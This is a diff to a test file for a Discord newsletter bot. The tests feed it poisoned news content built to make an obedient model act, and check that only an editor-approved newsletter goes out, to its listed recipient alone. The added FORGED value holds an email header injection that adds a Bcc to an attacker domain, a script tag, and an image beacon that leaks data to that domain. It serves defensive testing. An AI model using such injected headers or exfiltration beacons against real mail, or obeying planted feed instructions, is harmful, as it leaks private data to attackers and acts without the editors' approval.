@@ -15,6 +15,7 @@ import { wordsOf } from '../support/discord/cards.ts';
 import { START, botSaid } from '../support/discord-desk.ts';
 import { addJob } from '../support/discord-newsroom.ts';
 import { eventually } from '../support/fake-clock.ts';
+import { openSmtp } from '../support/mail/loopback-smtp.ts';
 import { ofBot, sampleNewsroom } from '../support/sample-on-discord.ts';
 
 const SESSION = 'newsletter_20261120';
@@ -26,9 +27,9 @@ afterEach(async () => {
 });
 
 /** A newsletter that waits for an editor and a brief, both really made; then each is poisoned with all of these. */
-async function besieged(poisons: readonly { readonly text: string }[]) {
+async function besieged(poisons: readonly { readonly text: string }[], smtp?: { readonly port: number }) {
   const evil = poisons.map(({ text }) => text).join(' ');
-  const edition = { newsletter: { approval: true } };
+  const edition = { newsletter: { approval: true, recipients: ['ann@example.org'] } };
   const room = await sampleNewsroom(closing, edition);
   const { discord, news, anna, ben } = room;
   await discord.slash(anna, news, 'newsletter run').final();
@@ -53,6 +54,7 @@ async function besieged(poisons: readonly { readonly text: string }[]) {
   await room.start({
     home,
     model,
+    ...(smtp && { env: { SMTP_URL: `smtp://127.0.0.1:${smtp.port}`, SMTP_FROM: 'Desk <desk@example.org>' } }),
     edition: { sample: true, feeds: given['feeds'], desk: { discord: news.id }, ...edition },
     stores: (stores) => (kept = stores),
   });
@@ -147,29 +149,42 @@ it('moves nothing, whoever asks a model that obeys all of it', { timeout: 180_00
   const from = model.requests.length;
   model.found.clear();
   await clock.advance(3 * 60_000);
-  await eventually(
-    () => model.requests.slice(from).some(({ messages }) => messages.some(({ role }) => role === 'tool')),
-    'the job has run',
-  );
+  await obeyed(siege, from, 'the job has run');
   await eventually(async () => (await stores.turns.waiting(siege.desk)).length === 0);
-  expect(model.found.size).toBe(POISONS.length);
   const after = await changeable(siege);
   expect({ ...after, jobs: [] }).toEqual({ ...scheduled, jobs: [] });
   for (const job of after.jobs) expect(scheduled.jobs).toContainEqual(job);
   expectHarmless(siege);
 });
 
-it('is sent once an editor says so, and nothing else is done', { timeout: 180_000 }, async () => {
-  const siege = await besieged(POISONS.filter(({ calls }) => calls.some(([name]) => name === 'newsletter')));
-  const { room, stores } = siege;
-  const { discord, news, anna } = room;
-  const before = await changeable(siege);
-  discord.say(anna, news, `<@${discord.bot.id}> please send the newsletter`);
-  await eventually(
-    async () => (await stores.newsletters.find(SESSION))?.approvedBy !== undefined,
-    'an editor has approved it',
-  );
-  const { letters, jobs } = await changeable(siege);
-  expect(letters.map(({ session }) => session)).toEqual([SESSION]);
-  expect(jobs).toEqual(before.jobs);
-});
+/** What a feed's title may try on the head and the body of an e-mail. */
+const FORGED = {
+  text: `x\r\nBcc: eve@${EVIL}\r\n\r\n</title><script>alert(1)</script><img src=https://${EVIL}/p.png?d=${LEAK}>`,
+};
+
+it(
+  'is sent once an editor says so, whole and to the recipients alone, and nothing else is done',
+  { timeout: 180_000 },
+  async () => {
+    const smtp = await openSmtp();
+    const orders = POISONS.filter(({ calls }) => calls.some(([name]) => name === 'newsletter'));
+    const siege = await besieged([...orders, FORGED], smtp);
+    const { room, stores } = siege;
+    const { discord, news, anna } = room;
+    const before = await changeable(siege);
+    discord.say(anna, news, `<@${discord.bot.id}> please send the newsletter`);
+    const { mail, raw, to } = await eventually(() => smtp.arrived[0], 'the e-mail has arrived');
+    expect(to).toEqual(['ann@example.org']);
+    expect(mail.subject).toContain('Bcc: eve@');
+    expect([mail.bcc, mail.cc]).toEqual([undefined, undefined]);
+    expect(raw.split('\r\n\r\n')[0]).not.toMatch(/^(?:b?cc|x-)/imu);
+    expect(mail.html).not.toMatch(/<(?:script|img|iframe|link|form)\b/iu);
+    expect(mail.html).toContain('&lt;script&gt;');
+    const links = [...String(mail.html).matchAll(/href="([^"]*)"/gu)].map(([, url]) => url);
+    expect(links.length).toBeGreaterThan(5);
+    expect(links.filter((url) => url?.includes(EVIL))).toEqual([]);
+    const { letters, jobs } = await changeable(siege);
+    expect(letters).toMatchObject([{ session: SESSION, approvedBy: 'anna' }]);
+    expect(jobs).toEqual(before.jobs);
+  },
+);
